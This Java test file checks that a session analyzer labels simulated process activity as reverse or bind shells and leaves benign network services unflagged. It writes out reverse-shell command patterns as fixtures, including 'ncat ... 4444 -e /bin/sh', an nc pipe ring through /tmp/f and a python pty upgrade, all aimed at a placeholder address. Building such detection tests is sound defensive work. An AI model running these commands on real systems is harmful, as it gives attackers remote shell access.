package io.scapula.analyzers.session;

import static io.scapula.analyzers.session.MachineStory.INIT;
import static io.scapula.analyzers.session.MachineStory.PTS_0;
import static io.scapula.analyzers.session.MachineStory.SSHD;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** Shells that serve the network, and what only looks like them. */
class NetworkShellsTest {
    @Test
    void aShellOnASocketThatItConnectedIsAReverseShell() {
        MachineStory story = MachineStory.start();
        story.workload().fork(INIT, 100);
        story.connects(100, "198.51.100.5", 4444).becomesStandardStreams(100, 3);
        story.workload().exec(100, "/bin/sh", "-i");
        story.runs(100, 101, "/usr/bin/id");

        assertThat(story.rows("kind", "remote", "interactive", "commands"))
                .containsExactly("reverse_shell 198.51.100.5:4444 true 2");
    }

    @Test
    void aShellOnASocketThatWasAcceptedIsABindShell() {
        MachineStory story = MachineStory.start();
        story.workload().fork(INIT, 100);
        story.accepts(100, "198.51.100.5", 40001).becomesStandardStreams(100, 4);
        story.workload().exec(100, "/bin/bash");

        assertThat(story.rows("kind", "remote")).containsExactly("bind_shell 198.51.100.5:40001");
    }

    @Test
    void aShellThatARelayFeedsThroughPipesIsOneToo() {
        MachineStory story = MachineStory.start();
        story.workload().fork(INIT, 100).exec(100, "/usr/bin/ncat", "198.51.100.5", "4444", "-e", "/bin/sh");
        story.connects(100, "198.51.100.5", 4444);
        story.workload()
                .call(100, "SYSCALL_PIPE2", 0, 5, 6, 77, 0)
                .fork(100, 101)
                .call(101, "SYSCALL_DUP2", 0, 5, 0);
        story.workload().exec(101, "/bin/sh");

        assertThat(story.rows("kind", "remote", "proc.pid")).containsExactly("reverse_shell 198.51.100.5:4444 101");
    }

    @Test
    void aTerminalThatAProgramOnASocketMadeIsOneToo() {
        MachineStory story = MachineStory.start();
        story.workload().fork(INIT, 100).exec(100, "/usr/bin/python3", "-c", "import pty");
        story.connects(100, "198.51.100.5", 4444).becomesStandardStreams(100, 3);
        story.workload().fork(100, 101);
        story.setsid(101);
        story.workload().call(101, "SYSCALL_OPENAT_2", 7, -100L, "/dev/pts/0", 3L, 0L, 0x4L, 77L);
        story.becomesStandardStreams(101, 7);
        story.workload().task(101).tty(PTS_0);
        story.workload().exec(101, "/bin/bash");

        assertThat(story.rows("kind", "remote", "terminal")).containsExactly("reverse_shell 198.51.100.5:4444 pts/0");
    }

    @Test
    void aShellInARingOfPipesWithAConnectionIsOneToo() {
        MachineStory story = MachineStory.start();
        story.workload()
                .fork(INIT, 100)
                .call(100, "SYSCALL_PIPE2", 0, 5, 6, 77, 0)
                .call(100, "SYSCALL_PIPE2", 0, 7, 8, 78, 0)
                .fork(100, 101)
                .call(101, "SYSCALL_DUP2", 0, 5, 0)
                .call(101, "SYSCALL_DUP2", 1, 8, 1)
                .exec(101, "/bin/sh", "-i")
                .fork(100, 102)
                .call(102, "SYSCALL_DUP2", 0, 7, 0)
                .call(102, "SYSCALL_OPENAT_2", 9, -100L, "/tmp/f", 2L, 0L, 0x4L, 77L)
                .call(102, "SYSCALL_DUP2", 1, 9, 1)
                .exec(102, "/bin/nc", "198.51.100.5", "4444");
        story.connects(102, "198.51.100.5", 4444);

        assertThat(story.rows("kind", "remote", "proc.pid")).containsExactly("reverse_shell 198.51.100.5:4444 101");
    }

    @Test
    void aCommandThatAServerRunsForARequestIsNone() {
        MachineStory story = MachineStory.start();
        story.workload().fork(INIT, 100).exec(100, "/usr/bin/ncat", "-l", "3333", "-c", "echo hello");
        story.accepts(100, "198.51.100.5", 40001);
        story.workload()
                .call(100, "SYSCALL_PIPE2", 0, 5, 6, 77, 0)
                .fork(100, 101)
                .call(101, "SYSCALL_DUP2", 0, 5, 0);
        story.workload().exec(101, "/bin/sh", "-c", "echo hello");

        assertThat(story.rows("kind")).isEmpty();
    }

    @Test
    void aServiceThatASuperServerStartsOnASocketIsNone() {
        MachineStory story = MachineStory.start();
        story.workload().fork(INIT, 100);
        story.accepts(100, "198.51.100.5", 40001).becomesStandardStreams(100, 4);
        story.workload().exec(100, "/usr/sbin/vsftpd");

        assertThat(story.rows("kind")).isEmpty();
    }

    @Test
    void aReverseShellLeavesTheSessionThatItWasStartedIn() {
        MachineStory story =
                MachineStory.start().accepts(SSHD, "192.0.2.7", 1111).login(100, 101, PTS_0);
        story.workload().fork(101, 102);
        story.connects(102, "198.51.100.5", 4444).becomesStandardStreams(102, 3);
        story.workload().exec(102, "/bin/bash", "-i");
        story.runs(102, 103, "/usr/bin/id").runs(101, 104, "/bin/ls");

        assertThat(story.rows("session", "kind", "parent", "commands"))
                .containsExactly("1 ssh - 2", "2 reverse_shell 1 2");
    }
}
